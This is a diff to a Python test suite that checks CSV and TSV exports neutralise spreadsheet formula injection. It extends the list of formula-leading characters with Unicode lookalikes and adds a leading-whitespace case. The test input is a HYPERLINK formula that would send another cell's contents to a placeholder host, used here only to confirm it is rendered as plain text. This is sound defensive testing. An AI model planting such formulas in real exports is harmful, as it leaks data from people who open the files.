@@ -22,7 +22,7 @@ from ringviewer.session.stills import StillView
 from tests.ui.tables.fakes import NOW_MS, a_lane
 
 _PACIFIC = ZoneInfo("America/Los_Angeles")
-_SIGNS = "=+-@\t\r\n＝＋－＠"
+_SIGNS = "=+-@\t\r\n＝＋－＠﹢﹣﹦﹫⁺⁻⁼₊−"
 
 
 def read(text: str) -> list[list[str]]:
@@ -38,13 +38,13 @@ def test_csv_says_again_what_was_written_and_nothing_is_a_formula(rows: list[lis
         for fact, cell in zip(row, cells, strict=True):
             if isinstance(fact, str):
                 assert cell.removeprefix("'") == plain(fact, 32_000).removeprefix("'")
-                assert not cell.lstrip(" \u00a0\u3000").startswith(tuple(_SIGNS))
+                assert not cell.lstrip().startswith(tuple(_SIGNS))
             else:
                 assert cell == ("" if fact is None else str(fact) if type(fact) is int else "yes" if fact else "no")
 
 
 @pytest.mark.parametrize("sign", _SIGNS)
-@pytest.mark.parametrize("before", ["", " ", "\u3000"])
+@pytest.mark.parametrize("before", ["", " ", "\u3000", "\u2007"])
 def test_a_formula_becomes_text(sign: str, before: str) -> None:
     evil = f'{before}{sign}HYPERLINK("https://example.test/?"&A1)'
     for line in (csv_line([evil, 1]), tsv_line([evil, 1])):
